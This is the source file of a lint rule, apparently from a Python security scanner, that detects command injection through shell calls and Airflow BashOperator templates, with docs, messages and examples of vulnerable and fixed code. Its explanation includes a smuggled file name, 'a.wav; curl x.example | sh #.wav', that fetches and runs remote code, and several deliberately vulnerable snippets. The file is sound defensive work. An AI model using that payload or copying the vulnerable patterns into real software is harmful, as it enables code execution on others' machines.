import { isTestFile } from '../../base/test-files.js';
import {
  argumentOf,
  type CallFact,
  defineRule,
  type Expression,
  edit,
  type PythonQuestions,
  python,
} from '../../engine/index.js';
import { BASH_OPERATORS, SHELLS, WITH_SHELL } from '../../knowledge/shell-calls.js';
import { gradeByOrigin, isForeign, leastTrusted } from '../_by-origin.js';
import { type Hole, isGuarded, isHarmless, templateOf } from '../_text-template.js';
import { quotedEdits } from './_shell-quotes.js';

/** What whoever starts a run passes in, inside a template of Airflow. */
const RUN_CONFIG = /\{\{[^{}]*\bdag_run\.conf\b[^{}]*\}\}/;
export default defineRule({
  summary: 'A shell runs a command with text pasted in.',
  stages: ['data-collection', 'preprocessing', 'training', 'deployment'],
  severity: 'error',
  confidence: 'high',
  since: '0.1.0',
  references: [
    'CWE-78',
    'OWASP-LLM05:2025',
    'AML.T0050',
    'https://docs.python.org/3/library/subprocess.html#security-considerations',
    'https://docs.python.org/3/library/shlex.html#shlex.quote',
    'https://airflow.apache.org/docs/apache-airflow/2.0.2/howto/operator/bash.html',
  ],
  overlaps: ['bandit:B602', 'bandit:B605', 'bandit:B609', 'ruff:S602', 'ruff:S605', 'ruff:S609'],
  docs: {
    why: 'A preparation script converts every recording with `os.system(f"ffmpeg -i {name} …")`. One file of a downloaded corpus is called `a.wav; curl x.example | sh #.wav`: converting it runs that line on the machine that holds the data.',
    instead:
      'Start the program without a shell, with a list: `subprocess.run(["ffmpeg", "-i", name, target], check=True)`; in Airflow pass values through `env`. Where a shell is needed, `shlex.quote` each value.',
    fixSafety:
      'A value that was meant as several words, a pattern or a variable becomes one plain word, and `shlex.quote` writes for POSIX shells only, so the fix is offered for review.',
    limits:
      'Commands without anything pasted in are passed over, as are numbers, names of the program itself and values that are quoted or compared with a list before. A helper that runs whatever command it is given is only noted: its callers decide.',
    ignoreWhen: 'The value comes from the program itself and never from a file name, a user or a model.',
  },
  messages: {
    pasted: '`{callee}` gives a shell text with a value pasted in, which can run a second command; pass a list',
    foreign: '`{callee}` gives a shell text that came from outside, which runs any command; pass a list',
    whole: '`{callee}` runs any command line it is given in a shell; pass a list and leave the shell out',
    runConfig: '`bash_command` pastes in what whoever starts the run passes, which can run any command; use `env`',
  },
  query: python.calls(...Object.keys(SHELLS), ...WITH_SHELL, ...BASH_OPERATORS),
  check(call: CallFact, { report, python: py, text, path }) {
    const operator = BASH_OPERATORS.includes(call.name);
    const command = commandOf(call, py);
    if (command === undefined) return;
    const parts = templateOf(command, py, text);
    if (operator && parts.some((part) => typeof part === 'string' && RUN_CONFIG.test(part))) {
      report(command.range, 'runConfig');
      return;
    }
    const open = parts
      .filter((part): part is Hole => typeof part !== 'string')
      .filter((part) => isOpen(part, call, py, text));
    const foreign = open.filter(({ expression }) => isForeign(py.origin(expression)));
    const [shown] = [...foreign, ...open];
    if (shown === undefined) return;
    const origin = leastTrusted(
      (foreign.length > 0 ? foreign : open).map(({ expression }) => expression),
      py,
    )!;
    const whole = parts.length === 1 || parts.every((part) => typeof part !== 'string' || part.trim() === '');
    // A helper of tests, and a notebook, run commands that the same person wrote.
    if (whole && foreign.length === 0 && (isTestFile(path) || path.endsWith('.ipynb'))) return;
    const place = shown.place ?? shown.expression.range;
    const within = place.start >= command.range.start && place.end <= command.range.end;
    const message = foreign.length > 0 ? 'foreign' : whole ? 'whole' : 'pasted';
    const callee = call.name.split('.').slice(-2).join('.');
    const finding = report(within ? place : command.range, message, { callee: operator ? 'BashOperator' : callee });
    gradeByOrigin(finding, origin, path, whole || operator ? 'info' : 'warning');
    if (!within) finding.related(shown.expression.range, 'it is pasted in here');
    const edits = whole ? [] : quotedEdits(command, parts, open, text);
    if (edits.length > 0)
      finding.fix(
        'Quote what is pasted in',
        'review',
        [...edit.addImport(text, 'import shlex'), ...edits],
        'each value becomes one word of a POSIX shell',
      );
  },
  examples: [
    {
      bad: 'import os\n\ndef convert(name, target):\n    os.system(f"ffmpeg -i «{name}» -ar 16000 {target}")\n',
      message: 'pasted',
      good: 'import shlex\nimport os\n\ndef convert(name, target):\n    os.system(f"ffmpeg -i {shlex.quote(str(name))} -ar 16000 {shlex.quote(str(target))}")\n',
    },
    {
      bad: 'import subprocess as sp\n\ndef unpack(path):\n    sp.run("unzip " + «path», shell=True, check=True)\n',
      message: 'pasted',
      good: 'import shlex\nimport subprocess as sp\n\ndef unpack(path):\n    sp.run("unzip " + shlex.quote(str(path)), shell=True, check=True)\n',
    },
    {
      bad: 'import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n\n@app.post("/convert")\ndef convert():\n    name = request.form["name"]\n    return subprocess.check_output(f"file «{name}»", shell=True)\n',
      message: 'foreign',
      good: 'import shlex\nimport subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n\n@app.post("/convert")\ndef convert():\n    name = request.form["name"]\n    return subprocess.check_output(f"file {shlex.quote(str(name))}", shell=True)\n',
    },
    {
      bad: 'import subprocess\n\ndef run(command):\n    subprocess.run(«command», shell=True, check=True)\n',
      message: 'whole',
      good: 'import subprocess\n\ndef run(words):\n    subprocess.run(words, check=True)\n',
      byHand: true,
    },
    {
      bad: 'from airflow.operators.bash import BashOperator\ntrain = BashOperator(task_id="train", bash_command=«"train.sh {{ dag_run.conf[\'data\'] }}"»)\n',
      message: 'runConfig',
      good: 'from airflow.operators.bash import BashOperator\ntrain = BashOperator(task_id="train", bash_command=\'train.sh "$DATA"\', env={"DATA": "{{ dag_run.conf[\'data\'] }}"}, append_env=True)\n',
      byHand: true,
    },
    {
      good: 'import subprocess\nsubprocess.run("nvidia-smi | grep MiB", shell=True)\n',
      because: 'the whole command stands in the program',
    },
    {
      good: 'import subprocess\n\ndef unpack(path):\n    subprocess.run(["unzip", path], check=True)\n',
      because: 'no shell reads a list',
    },
    {
      good: 'import os\nimport shlex\n\ndef unpack(path):\n    os.system(f"unzip {shlex.quote(path)}")\n',
      because: 'the value is quoted',
    },
    {
      good: 'import os\nPORT = 6006\nos.system(f"tensorboard --port {PORT} --logdir runs")\n',
      because: 'a constant is put in',
    },
    { good: 'platform.system(f"run {name}")\n', because: 'another function of that name' },
  ],
});

function commandOf(call: CallFact, py: PythonQuestions): Expression | undefined {
  const keyword = SHELLS[call.name];
  if (keyword !== undefined) return argumentOf(call, keyword, 0)?.value;
  if (BASH_OPERATORS.includes(call.name)) return argumentOf(call, 'bash_command')?.value;
  const shell = argumentOf(call, 'shell', 8);
  const on = shell === undefined ? undefined : py.value(shell.value);
  if (on?.kind !== 'boolean' || !on.value) return undefined;
  const command = argumentOf(call, 'args', 0)?.value;
  const written = command && py.definition(command);
  // Of a list the shell reads the first word only; the others are its own arguments.
  return written?.kind === 'list' || written?.kind === 'tuple' ? written.items[0] : command;
}

function isOpen(hole: Hole, call: CallFact, py: PythonQuestions, text: string): boolean {
  return !hole.numeric && !isHarmless(hole.expression, py) && !isGuarded(hole, call, text);
}
